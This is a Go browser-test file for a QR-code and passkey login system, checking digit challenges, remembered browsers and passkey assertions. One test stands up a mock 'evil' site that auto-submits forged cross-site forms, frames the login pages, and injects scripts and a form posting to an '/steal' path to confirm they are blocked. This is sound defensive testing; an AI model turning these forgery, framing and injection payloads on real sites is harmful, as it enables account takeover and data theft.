package main

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/cdproto/cdp"
	pages "github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/webauthn"
	"github.com/chromedp/chromedp"

	"github.com/fanfarehq/fanfare/sdk/qrlogin"
)

func adaptive(o *appOptions) { o.policy = qrlogin.Adaptive }

// TestT01DigitsInABrowser: a browser that the user never used is let in only
// when it types what the phone shows; the second time it is known.
func TestT01DigitsInABrowser(t *testing.T) {
	t.Parallel()
	s := startSite(t, adaptive)
	browser := chromium(t)
	screen, mobile := desktop(t, browser), phone(t, browser)
	screen.open(s.url + "/login")
	screen.state("ready")
	mobile.open(screen.scan("login"))
	mobile.signIn()
	mobile.state("ask")
	for _, want := range []string{"New: you never signed in from it", "Chrome on Linux", "seconds ago", "Same as this phone"} {
		mobile.shows(want)
	}
	// The first control that the keyboard reaches is the one that says no.
	if first := evaluate[string](mobile, `[...document.querySelectorAll("main button, main a, main input")].find(e => e.offsetParent)?.dataset.decide`); first != "reject" {
		t.Errorf("the first control is %q", first)
	}
	mobile.click(`[data-decide="approve"]`)
	mobile.state("challenge")
	digits := evaluate[string](mobile, `document.querySelector("#check").textContent`)
	mobile.fits("digits")
	mobile.shot("phone-challenge")
	screen.state("challenge")
	if focused := evaluate[string](screen, `document.querySelector("fanfare-qr-login").shadowRoot.activeElement?.tagName ?? ""`); focused != "INPUT" {
		t.Errorf("the focus is on %q, not where the digits go", focused)
	}
	screen.shot("login-challenge")
	mobile.open(evaluate[string](mobile, `location.href`)) // a reload loses nothing
	mobile.state("challenge")
	screen.typeDigits(wrong(digits))
	screen.shows("Tries left: 2")
	screen.typeDigits(digits)
	screen.shows("Hello, Demo User")
	mobile.state("done")

	screen.click(`form[action="/signout"] button`)
	screen.state("ready")
	mobile.open(screen.scan("login"))
	mobile.state("ask")
	mobile.shows("Known browser")
	mobile.reads()
	evaluate[bool](mobile, `document.querySelector("#remember").click() ?? true`)
	mobile.click(`[data-decide="approve"]`)
	screen.shows("Hello, Demo User")

	// Now it is remembered: it asks without a code, and the account page tells.
	mobile.open(s.url + "/")
	mobile.until(`document.querySelector("#account")?.dataset.link === "live"`)
	screen.click(`form[action="/signout"] button`)
	screen.state("ready")
	screen.shows("Continue as D•••")
	screen.shot("login-remembered")
	screen.tap(`[data-do="ask"]`)
	screen.state("asked")
	mobile.shows("It asks to be signed in as you.")
	mobile.shot("account-asked")
	mobile.click("#answer")
	mobile.state("ask")
	mobile.reads()
	mobile.click(`[data-decide="approve"]`)
	screen.shows("Hello, Demo User")
}

// reads waits until a person could have read the question: whoever says yes at
// once is suspicious.
func (b *tab) reads() {
	b.t.Helper()
	b.until(`/1:5[0-8]/.test(document.querySelector("#left").textContent)`)
}

// typeDigits types into the login element as a person does.
func (b *tab) typeDigits(digits string) {
	b.t.Helper()
	evaluate[bool](b, fmt.Sprintf(`(i => { i.value = %q; i.dispatchEvent(new Event("input", { bubbles: true })); return true; })(document.querySelector("fanfare-qr-login").shadowRoot.querySelector("input"))`, digits))
}

// evilSite is a page of another site, that counts who asks for its picture.
func evilSite(t *testing.T, target string, hits *atomic.Int32) string {
	t.Helper()
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		switch r.URL.Path {
		case "/form":
			_, _ = fmt.Fprintf(w, `<form method="post" action="%s"><input name="ticket" value="%s"></form><script>document.forms[0].submit()</script>`, target+r.URL.Query().Get("path"), r.URL.Query().Get("ticket"))
		case "/frame":
			_, _ = fmt.Fprintf(w, `<title>evil</title><iframe src="%s"></iframe>`, target+r.URL.Query().Get("path"))
		case "/link":
			_, _ = fmt.Fprintf(w, `<a href="%s">win a phone</a>`, target+r.URL.Query().Get("path"))
		case "/favicon.ico":
		default:
			hits.Add(1)
		}
	}))
	t.Cleanup(server.Close)
	return server.URL
}

// TestT05T06T07T12InABrowser: what another site can do to a signed-in person:
// nothing by forms, nothing by frames, nothing by injected things, and a link
// of it is no code.
func TestT05T06T07T12InABrowser(t *testing.T) {
	t.Parallel()
	s := startSite(t)
	var hits atomic.Int32
	evil := evilSite(t, s.url, &hits)
	browser := chromium(t)
	screen, victim := desktop(t, browser), phone(t, browser)
	victim.open(s.url + "/signin")
	victim.signIn()
	victim.shows("Hello, Demo User")
	screen.open(s.url + "/login")
	screen.state("ready")
	ticket := lastOf(screen.scan("login"))

	for _, path := range []string{"/qr/plain-scan", "/qr/scan", "/signout"} {
		victim.open(evil + "/form?path=" + path + "&ticket=" + ticket)
		victim.until(`location.pathname === "` + path + `"`)
		if text := victim.text(); !strings.Contains(strings.ToLower(text), "cross-origin") && !strings.Contains(text, "forbidden") && !strings.Contains(text, "not yours") {
			t.Errorf("a form of another site to %s: %s", path, text)
		}
	}
	for _, path := range []string{"/q/" + ticket, "/login", "/", "/signin"} {
		victim.open(evil + "/frame?path=" + path)
		victim.until(`document.title === "evil" && document.readyState === "complete"`)
		var framed string
		victim.do("frames", func(ctx context.Context, t *chromedp.Target) (chromedp.Void, error) {
			tree, err := cdp.Call(ctx, t, pages.GetFrameTree, cdp.Empty{})
			if err == nil && len(tree.FrameTree.ChildFrames) > 0 {
				framed = tree.FrameTree.ChildFrames[0].Frame.URL
			}
			return chromedp.Void{}, err
		})
		if strings.HasPrefix(framed, s.url) {
			t.Errorf("%s is shown in a frame of another site", path)
		}
	}
	// T-07: what is injected into the page with the code does not load.
	broken := evaluate[int](screen, `new Promise((done) => {
		const seen = new Set();
		addEventListener("securitypolicyviolation", (e) => { seen.add(e.effectiveDirective); if (seen.size === 3) done(3); });
		const img = new Image(); img.src = "`+evil+`/code.png"; document.body.append(img);
		const far = document.createElement("script"); far.src = "`+evil+`/x.js"; document.body.append(far);
		const inline = document.createElement("script"); inline.textContent = "window.pwned = 1"; document.body.append(inline);
		const form = document.createElement("form"); form.action = "`+evil+`/steal"; document.body.append(form); form.submit();
		setTimeout(() => done(seen.size), 5000);
	})`)
	if broken < 3 || hits.Load() != 0 || evaluate[bool](screen, `window.pwned === 1`) {
		t.Errorf("injected: %d kinds were stopped, %d requests got out", broken, hits.Load())
	}
	if screen.state("ready"); len(s.app.sessions.list("demo")) != 1 {
		t.Error("somebody else is signed in")
	}
	// T-12: the link asks, and then the digits have to be typed.
	victim.open(evil + "/link?path=/q/" + ticket)
	victim.click("a")
	victim.state("linked")
	victim.shot("phone-linked")
	victim.click("#goon")
	victim.state("ask")
	victim.click(`[data-decide="approve"]`)
	victim.state("challenge")
	screen.state("challenge")
}

// authenticator gives the tab a passkey device, with a finger that always fits.
func (b *tab) authenticator() {
	b.t.Helper()
	b.do("authenticator", func(ctx context.Context, t *chromedp.Target) (chromedp.Void, error) {
		if _, err := cdp.Call(ctx, t, webauthn.Enable, webauthn.EnableParams{}); err != nil {
			return chromedp.Void{}, err
		}
		_, err := cdp.Call(ctx, t, webauthn.AddVirtualAuthenticator, webauthn.AddVirtualAuthenticatorParams{Options: &webauthn.VirtualAuthenticatorOptions{
			Protocol: webauthn.AuthenticatorProtocolCtap2, Transport: webauthn.AuthenticatorTransportInternal,
			HasResidentKey: true, HasUserVerification: true, IsUserVerified: true, AutomaticPresenceSimulation: true,
		}})
		return chromedp.Void{}, err
	})
}

// TestPasskeys: made on the account page, used to sign in beside the code and
// on the form, and to confirm a code. What it signed is good for that alone
// (T-04).
func TestPasskeys(t *testing.T) {
	t.Parallel()
	s := startSite(t)
	browser := chromium(t)
	screen, mobile := desktop(t, browser), phone(t, browser)
	mobile.authenticator()
	mobile.open(s.url + "/signin")
	mobile.signIn()
	mobile.shows("Hello, Demo User")
	mobile.click("#add")
	mobile.shows("Added ")
	mobile.shot("account-passkey")
	mobile.click(`form[action="/signout"] button`)
	mobile.state("phone")
	mobile.tap(`[data-do="passkey"]`)
	mobile.shows("Hello, Demo User")
	mobile.shows("Passkey ·")

	// The assertion for one attempt does not do for another.
	scan := `async () => { const v = "v".repeat(43);
		const hash = new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(v)));
		const code_challenge = btoa(String.fromCharCode(...hash)).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
		const post = (path, body) => fetch(path, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify(body) }).then(async (r) => ({ status: r.status, ...(await r.json()) }));
		const a = await post("/qr/attempts", { code_challenge });
		return { post, asked: await post("/qr/scan", { ticket: a.qr_url.split("/").pop() }) }; }`
	got := evaluate[[]int](mobile, `(async () => { const scan = `+scan+`; const one = await scan(), two = await scan();
		const sign = async (it) => (await navigator.credentials.get({ publicKey: PublicKeyCredential.parseRequestOptionsFromJSON(it.asked.confirm) })).toJSON();
		const say = (it, assertion) => it.post("/qr/attempts/" + it.asked.attempt_id + "/decision", { decision: "approve", nonce: it.asked.decision_nonce, assertion }).then((r) => r.status);
		const signed = await sign(one);
		return [await say(two, signed), await say(one, signed), await say(one, signed), await say(two, await sign(two))]; })()`)
	if fmt.Sprint(got) != "[400 200 409 200]" {
		t.Errorf("another's assertion, one's own, again, the other's own: %v, want [400 200 409 200]", got)
	}

	screen.open(s.url + "/login")
	screen.state("ready")
	mobile.open(screen.scan("login"))
	mobile.state("ask")
	mobile.click(`[data-decide="approve"]`)
	screen.shows("Hello, Demo User")
	screen.shows("with a passkey")
	// Who was let in by a phone may not make a passkey there.
	if evaluate[bool](screen, `Boolean(document.querySelector("#add"))`) {
		t.Error("a browser that was let in by another device offers to add a passkey")
	}
	mobile.state("done")
	mobile.open(s.url + "/")
	mobile.click(`form[action^="/account/passkeys/"] button`)
	mobile.shows("With a passkey you sign in by fingerprint")
}
